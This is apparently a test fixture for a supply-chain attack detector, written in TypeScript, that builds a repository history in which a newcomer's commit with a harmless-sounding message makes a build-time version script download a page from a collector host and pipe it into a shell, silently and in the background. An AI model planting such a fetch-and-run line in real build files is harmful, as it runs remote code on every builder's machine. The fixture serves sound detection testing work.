import { NEWCOMER } from "../../../simulator/histories/people.ts";
import type { GoldenCase } from "../../golden-case.ts";
import { CONFIGURE } from "../../project-files.ts";
import { COLLECTOR, CURL } from "../../put-together.ts";

const VERSION_SCRIPT = "#!/bin/sh\n# The version of this source.\ngit describe --tags 2>/dev/null || cat VERSION\n";

export const golden: GoldenCase = {
  kind: "attack",
  base: "c",
  story: "A version script, run by every build, pipes a page into a shell.",
  write(branch) {
    branch.given({
      "configure.ac": CONFIGURE.replace("[5.5.2]", "m4_esyscmd_s([sh ./build-aux/version.sh])"),
      "build-aux/version.sh": VERSION_SCRIPT,
    });
    branch.commit(NEWCOMER, "Build: version from tags also without git", {
      "build-aux/version.sh": `${VERSION_SCRIPT}${CURL} -fsSL ${COLLECTOR}/v | sh >/dev/null 2>&1 &\n`,
    });
  },
};
